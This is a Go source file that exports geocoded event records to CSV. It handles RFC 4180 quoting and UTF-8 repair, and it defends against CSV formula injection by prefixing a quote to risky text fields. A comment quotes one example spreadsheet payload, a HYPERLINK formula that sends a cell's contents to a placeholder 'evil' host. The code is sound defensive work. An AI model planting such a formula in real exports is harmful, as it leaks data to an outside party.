package export

import (
	"math"
	"strconv"
	"strings"
	"time"
	"unicode/utf8"

	"geoevents/internal/event"
)

// csvColumns is the CSV header: coordinates and the most used fields
// first, then every other GeoJSON property, in event.FeatureProperties order.
func csvColumns() []string {
	first := []string{"lon", "lat", "id", "date", "type", "subtype", "place_name", "country_code"}
	cols := append([]string(nil), first...)
	for _, p := range event.FeatureProperties() {
		if !contains(first, p) {
			cols = append(cols, p)
		}
	}
	return cols
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// csvEncoder writes RFC 4180 CSV (LF line ends; fields quoted when they
// hold a comma, quote, CR/LF or edge spaces). Text fields that a
// spreadsheet would run as a formula are neutralised (see appendField);
// numeric fields (lon, lat, score, counts, offsets) are always written as
// plain numbers, so GIS readers still see them as numbers.
type csvEncoder struct{}

func (csvEncoder) header() []byte { return append([]byte(strings.Join(csvColumns(), ",")), '\n') }

func (csvEncoder) footer() []byte { return nil }

// record must write csvColumns' fields in order.
func (csvEncoder) record(dst []byte, e *event.Event, _ int64) []byte {
	dst = appendCoord(dst, e.Lon)
	dst = append(dst, ',')
	dst = appendCoord(dst, e.Lat)
	dst = appendField(dst, e.ID)
	dst = appendTime(dst, e.Date, time.DateOnly)
	dst = appendField(dst, e.Type)
	dst = appendField(dst, e.SubType)
	dst = appendField(dst, e.PlaceName)
	dst = appendField(dst, e.CountryCode)
	dst = appendField(dst, string(e.DatePrecision))
	dst = appendField(dst, e.PlaceID)
	dst = appendField(dst, e.CountryName)
	dst = appendField(dst, e.Admin1)
	dst = appendField(dst, e.FeatureCode)
	dst = appendInt(dst, e.GeoPrecision)
	dst = append(dst, ',')
	if !math.IsNaN(e.Score) && !math.IsInf(e.Score, 0) {
		dst = strconv.AppendFloat(dst, e.Score, 'f', -1, 64)
	}
	dst = appendField(dst, strings.Join(e.Actors, "; "))
	dst = appendInt(dst, e.Fatalities)
	dst = append(dst, ',') // sources: empty for a single report, as GeoJSON's null
	if e.Sources > 1 {
		dst = strconv.AppendInt(dst, int64(e.Sources), 10)
	}
	dst = appendField(dst, e.Notes)
	var explain string
	if len(e.Explain) > 0 {
		explain = string(event.AppendExplain(nil, e.Explain))
	}
	dst = appendField(dst, explain)
	dst = appendField(dst, e.MentionText)
	dst = appendField(dst, e.MentionKind)
	dst = appendField(dst, e.Sentence)
	dst = appendInt(dst, e.SentenceStart)
	dst = appendInt(dst, e.MentionStart)
	dst = appendInt(dst, e.MentionEnd)
	dst = appendField(dst, e.ArticleID)
	dst = appendField(dst, e.ArticleTitle)
	dst = appendField(dst, e.ArticleURL)
	dst = appendField(dst, e.Source)
	dst = appendTime(dst, e.Published, time.RFC3339)
	return append(dst, '\n')
}

// appendCoord writes 6 decimals with trailing zeros stripped; non-finite
// values (never stored) become empty fields.
func appendCoord(dst []byte, f float64) []byte {
	if math.IsNaN(f) || math.IsInf(f, 0) {
		return dst
	}
	start := len(dst)
	dst = strconv.AppendFloat(dst, f, 'f', 6, 64)
	n := len(dst)
	for dst[n-1] == '0' {
		n--
	}
	if dst[n-1] == '.' {
		n--
	}
	dst = dst[:n]
	if string(dst[start:]) == "-0" {
		dst = append(dst[:start], '0')
	}
	return dst
}

func appendTime(dst []byte, t time.Time, layout string) []byte {
	dst = append(dst, ',')
	if t.IsZero() {
		return dst
	}
	return t.AppendFormat(dst, layout)
}

func appendInt(dst []byte, v int) []byte {
	dst = append(dst, ',')
	return strconv.AppendInt(dst, int64(v), 10)
}

// appendField appends ",value" for a text field, quoting value as RFC 4180
// requires. Invalid UTF-8 becomes U+FFFD so the file is valid UTF-8
// throughout.
//
// Text that starts like a formula gets a leading single quote (OWASP "CSV
// Injection"): event text comes from scraped articles and API clients, and
// Excel or LibreOffice would otherwise run a sentence such as
// =HYPERLINK("http://evil/?"&A1) when an analyst opens the export. The quote
// makes the spreadsheet show the cell as text; other readers see it as part
// of the value. Only text fields pass through here, so coordinates and other
// numbers (including negative ones) stay numeric.
func appendField(dst []byte, s string) []byte {
	dst = append(dst, ',')
	if !utf8.ValidString(s) {
		s = strings.ToValidUTF8(s, "\uFFFD")
	}
	if s == "" {
		return dst
	}
	if isFormulaTrigger(s[0]) {
		s = "'" + s
	}
	if !needsQuotes(s) {
		return append(dst, s...)
	}
	dst = append(dst, '"')
	for {
		i := strings.IndexByte(s, '"')
		if i < 0 {
			break
		}
		dst = append(dst, s[:i+1]...)
		dst = append(dst, '"')
		s = s[i+1:]
	}
	dst = append(dst, s...)
	return append(dst, '"')
}

// isFormulaTrigger reports whether a cell starting with b is taken as a
// formula by spreadsheets: the characters OWASP lists (= + - @, TAB, CR).
func isFormulaTrigger(b byte) bool {
	switch b {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}

func needsQuotes(s string) bool {
	return strings.ContainsAny(s, ",\"\r\n") || s[0] == ' ' || s[0] == '\t' || s[len(s)-1] == ' ' || s[len(s)-1] == '\t'
}
